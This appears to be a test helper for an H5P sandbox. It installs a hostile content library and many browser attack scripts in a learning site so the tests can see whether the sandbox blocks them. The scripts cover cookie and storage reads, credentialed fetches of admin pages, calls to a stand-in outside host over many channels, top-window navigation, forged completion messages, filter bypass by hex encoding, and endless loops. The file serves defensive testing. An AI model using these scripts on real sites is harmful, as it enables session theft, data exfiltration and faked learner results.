"""Attacks, each the script of an H5P content of its own; they run in the library that ``install`` brings along.

``note(name, value)`` keeps what an attack got; ``tries(name, act)`` what came of ``act``: “no: …” where it was refused.
"""

from __future__ import annotations

from typing import Any
from uuid import uuid4

_TRIES = """
const tries = async (name, act) => {
  const late = new Promise((done) => setTimeout(() => done("no: nothing came"), 700));
  try { note(name, String(await Promise.race([act(), late]))); } catch (error) { note(name, `no: ${error.name ?? error}`); }
};
const own = (value) => { if (!value) throw new Error("empty"); return value; };
const tell = (kind, data, nonce = H5PIntegration.frame.nonce) => parent.postMessage({ v: 1, nonce, kind, ...data }, "*");
"""

_REACH = """
note("origin", origin);
await tries("cookie", () => `own: ${document.cookie}`);
await tries("localStorage", () => `own: ${Object.keys(localStorage)}`);
await tries("indexedDB", () => new Promise((done, fail) => {
  const asked = indexedDB.open("rahasia"); asked.onsuccess = () => done("open"); asked.onerror = () => fail(asked.error);
}));
await tries("caches", () => caches.keys());
await tries("cookieStore", () => cookieStore.getAll());
await tries("worker", () => navigator.serviceWorker.register("/h5p/sw.js"));
await tries("parent", () => parent.document.querySelector("h1").textContent);
await tries("top", () => top.document.title);
await tries("name of the page", () => top.location.href);
await tries("element", () => own(frameElement).ownerDocument);
await tries("variables", () => parent.heard);
await tries("ancestors", () => own(document.referrer));
for (const [name, address] of [["profile", "/profil/?coba=1"], ["admin", "/kelola/?coba=2"], ["front", "/?coba=3"]]) {
  await tries(name, async () => (await fetch(new URL(address, H5PIntegration.url), { credentials: "include" })).text());
}
await tries("with cookies", async () => (await fetch(`${H5PIntegration.url}/x?coba=4`, { credentials: "include" })).text());
await tries("frame", () => new Promise((done) => {
  const inner = document.createElement("iframe"); inner.src = new URL("/masuk/", H5PIntegration.url);
  inner.onload = () => done(own(inner.contentDocument).title); document.body.append(inner);
}));
await tries("text frame", () => new Promise((done) => {
  addEventListener("message", ({ data }) => data === "inner" && done("runs"));
  const inner = document.createElement("iframe"); inner.srcdoc = "<script>parent.postMessage('inner', '*')<\\/script>";
  document.body.append(inner);
}));
"""

_RTC = """async () => {
  const peer = new RTCPeerConnection({ iceServers: [{ urls: ["stun:ADDRESS:PORT", "turn:127.0.0.1:PORT?transport=tcp"],
    username: "a", credential: "b" }] });
  peer.createDataChannel("x");
  await peer.setLocalDescription(await peer.createOffer());
}"""

_NETWORK = """
const put = (tag, fields) => document.body.append(Object.assign(document.createElement(tag), fields));
const far = (path) => `ELSEWHERE/${path}`;
await tries("fetch", () => fetch(far("fetch"), { mode: "no-cors" }));
await tries("keepalive", () => fetch(far("keepalive"), { method: "POST", mode: "no-cors", keepalive: true, body: "x" }));
await tries("xhr", () => { const asked = new XMLHttpRequest(); asked.open("GET", far("xhr")); asked.send(); });
await tries("socket", () => new WebSocket(far("socket").replace("http", "ws")));
await tries("events", () => new EventSource(far("events")));
await tries("transport", () => new WebTransport(far("transport").replace("http:", "https:")).ready);
await tries("beacon", () => navigator.sendBeacon(far("beacon"), "x"));
await tries("peer", RTC);
put("img", { src: far("img") });
put("img", { srcset: `${far("srcset")} 2x` });
put("video", { src: far("video"), poster: far("poster"), preload: "auto" });
put("audio", { src: far("audio"), preload: "auto" });
put("script", { src: far("script") });
put("iframe", { src: far("iframe") });
put("object", { data: far("object") });
put("embed", { src: far("embed") });
for (const rel of ["stylesheet", "prefetch", "preload", "preconnect", "prerender", "modulepreload", "icon", "manifest"]) {
  put("link", { rel, href: far(rel), as: "image" });
}
put("style", { textContent: `@import url("${far("import")}"); @font-face { font-family: x; src: url("${far("font")}") }
  body { background: url("${far("background")}"); font-family: x }` });
put("script", { type: "speculationrules", textContent: JSON.stringify({ prefetch: [{ urls: [far("rules")], eagerness: "immediate" }] }) });
put("base", { href: far("base/") });
put("img", { src: "base-img" });
put("p", { innerHTML: `<svg><image href="${far("svg")}"/><use href="${far("use")}#a"/></svg><table background="${far("table")}">` });
const form = Object.assign(document.createElement("form"), { action: far("form"), method: "post" });
document.body.append(form);
await tries("form", () => form.submit());
for (const code of [`fetch("${far("worker")}")`, `importScripts("${far("scripts")}")`]) {
  await tries("worker", () => new Worker(URL.createObjectURL(new Blob([code]))));
}
await tries("module", () => import(far("module")));
await tries("ping", () => { const link = document.createElement("a"); Object.assign(link, { ping: far("ping"), href: "#" });
  document.body.append(link); link.click(); });
note("tried", "all");
""".replace("RTC", _RTC)

_PAGE = """
const go = (name, act) => tries(name, async () => { await act(); await new Promise((done) => setTimeout(done, 60)); throw new Error("stayed"); });
await go("top", () => { top.location = "/"; });
await go("parent", () => { parent.location.replace("/"); });
await go("script address", () => { top.location = "javascript:document.title='diubah'"; });
for (const target of ["_top", "_parent", "_blank"]) {
  for (const href of ["/masuk/", "javascript:alert(2)"]) {
    await go(`${target} ${href}`, () => { const link = Object.assign(document.createElement("a"), { target, href });
      link.addEventListener("click", (event) => event.stopPropagation()); document.body.append(link); link.click(); });
  }
  await go(`form ${target}`, () => { const form = Object.assign(document.createElement("form"), { target, action: "/masuk/" });
    document.body.append(form); form.submit(); });
}
await tries("window", () => own(open("/masuk/")).closed);
await go("alert", () => alert("halo"));
await tries("confirm", () => own(confirm("ya?")));
await tries("prompt", () => own(prompt("sandi?")));
await go("print", () => print());
await go("download", () => { const link = Object.assign(document.createElement("a"), { download: "a.txt", href: "data:text/plain,a" });
  link.addEventListener("click", (event) => event.stopPropagation()); document.body.append(link); link.click(); });
await tries("full screen", async () => { await document.documentElement.requestFullscreen(); return "full"; });
await tries("pointer", async () => { await document.body.requestPointerLock(); return "locked"; });
await tries("camera", () => navigator.mediaDevices.getUserMedia({ video: true }));
await tries("place", () => new Promise((done, fail) => navigator.geolocation.getCurrentPosition(done, fail)));
await tries("clipboard", () => navigator.clipboard.readText());
await tries("notice", async () => own(await Notification.requestPermission() === "granted"));
await go("storage", () => document.requestStorageAccess());
await go("message", () => parent.postMessage("halo", "*"));
document.body.style.cssText = "position: fixed; inset: -5000px; z-index: 2147483647";
tell("resize", { height: 900000 });
tell("fullscreen", { on: true });
await new Promise((done) => setTimeout(done, 100));
"""

_SOUND = '{ content: "1", score: 1, max: 1, opened: 1, finished: 2, time: 1 }'
_FORGED = f"""
const good = {_SOUND};
tell("finished", good, "0".repeat(32));
tell("finished", good, "");
tell("finished", good, undefined + "");
parent.postMessage({{ v: 1, kind: "finished", ...good }}, "*");
parent.postMessage(JSON.stringify({{ v: 1, nonce: H5PIntegration.frame.nonce, kind: "finished", ...good }}), "*");
parent.postMessage(null, "*");
const worker = new Worker(URL.createObjectURL(new Blob(["postMessage(1)"])));
await new Promise((done) => {{ worker.onmessage = done; setTimeout(done, 500); }});
const inner = document.createElement("iframe"); // another window, with the right nonce
inner.srcdoc = `<script>top.postMessage(${{JSON.stringify({{ v: 1, nonce: H5PIntegration.frame.nonce, kind: "finished", ...good }})}}, "*")<\\/script>`;
document.body.append(inner);
await new Promise((done) => setTimeout(done, 300));
note("sent", "all");
tell("finished", good);
"""


def _unsound(kind: str, data: str) -> str:
    return f'tell("{kind}", {data});'


UNSOUND = {
    "not-a-number": _unsound("finished", '{ content: "1", score: NaN, max: 1, opened: 1, finished: 2, time: 1 }'),
    "endless": _unsound("finished", '{ content: "1", score: 1e999, max: 1, opened: 1, finished: 2, time: 1 }'),
    "unknown": _unsound("cookie", "{}"),
    "inherited": _unsound("constructor", "{}"),
    "more-fields": _unsound("beat", "{ n: 1, html: '<b>' }"),
    "no-text": _unsound("state", '{ content: "1", sub: "0", id: "state", data: { toJSON: 1 } }'),
    "megabyte": _unsound("state", '{ content: "1", sub: "0", id: "state", data: "x".repeat(1e6) }'),
    "circle": "const a = {}; a.a = a; a.verb = { id: 'x' }; tell('xapi', { statement: a });",
    "link": _unsound("link", '{ url: "javascript:alert(1)" }'),
    "flood": f'for (let n = 0; n < 1000; n += 1) tell("finished", {_SOUND});',
}
LEAVING = {
    "reload": "location.reload();",
    "elsewhere": 'location = "ELSEWHERE/gone";',
    "meta": 'document.head.insertAdjacentHTML("beforeend", `<meta http-equiv="refresh" content="0;url=ELSEWHERE/meta">`);',
    "site": 'location = new URL("/masuk/", H5PIntegration.url);',
    "data": 'location = "data:text/html,<h1>Masuk</h1>";',
}
_MEDIA = """
for (const host of ["boleh.contoh.id", "dilarang.contoh.id", "lain.contoh.id"]) {
  document.body.append(Object.assign(new Image(), { src: `https://${host}/a.png` }),
    Object.assign(document.createElement("video"), { src: `https://${host}/a.mp4`, preload: "auto" }));
  await tries(host, () => fetch(`https://${host}/a.json`));
}
"""

ATTACKS: dict[str, Any] = {
    "reach": _REACH,
    "network": {"code": _NETWORK, "rtc": _RTC},
    "page": _PAGE,
    "forged": _FORGED,
    "loop": "setTimeout(() => { for (;;); }, 300);",
    "loop-at-once": "for (;;);",
    "media": _MEDIA,
    **UNSOUND,
    **LEAVING,
}

LIBRARY = """
H5P.Jahat = function (params) {
  this.attach = ($where) => {
    $where.append("<p>Jahat</p>");
    const got = {}, note = (name, value) => { got[name] = value; };
    const code = decodeURIComponent(params.code.replace(/../g, "%$&"));
    const Attack = (async () => {}).constructor;
    const done = () => { document.body.dataset.done = JSON.stringify(got); };
    new Attack("note", code)(note).catch((error) => note("fell", String(error))).then(done);
  };
};
"""


def content_of(attack: Any, elsewhere: str, address: str) -> str:
    """Its script as the text of a content, which the filter of texts leaves alone."""
    code = attack["code"] if isinstance(attack, dict) else attack
    code = (
        code.replace("ELSEWHERE", elsewhere).replace("ADDRESS", address).replace("PORT", elsewhere.rpartition(":")[2])
    )
    return (_TRIES + code).encode().hex()


def install(contents: dict[str, str]) -> dict[str, str]:
    """In the data folder of a running site: a lesson for each content. Returns name → address."""
    # Inside: the tests themselves run without the site's database.
    from media.h5p.models import H5PHost
    from tests.factories.courses import course, lesson, module
    from tests.factories.h5p import make_content, make_library
    from tests.factories.h5p_rows import h5p_block

    fields = [{"name": "code", "type": "text", "label": "Kode", "maxLength": 1_000_000}]
    fields += [{"name": "film", "type": "video", "label": "Film", "optional": True}]
    library = make_library("H5P.Jahat 1.0", semantics=fields, script=LIBRARY)
    H5PHost.objects.get_or_create(host="boleh.contoh.id")
    part = module(course("Kandang", slug=f"kandang-{uuid4().hex[:6]}"))
    found = {}
    for name, code in contents.items():
        params: dict[str, Any] = {"code": code}
        if name == "media":
            hosts = ("boleh.contoh.id", "dilarang.contoh.id")
            params["film"] = [{"path": f"https://{host}/a.mp4", "mime": "video/mp4"} for host in hosts]
        made = make_content(library, title=f"Jahat {name}", params=params)
        found[name] = lesson(part, h5p_block(made, rule="opened", required=False)).get_url()
    return found
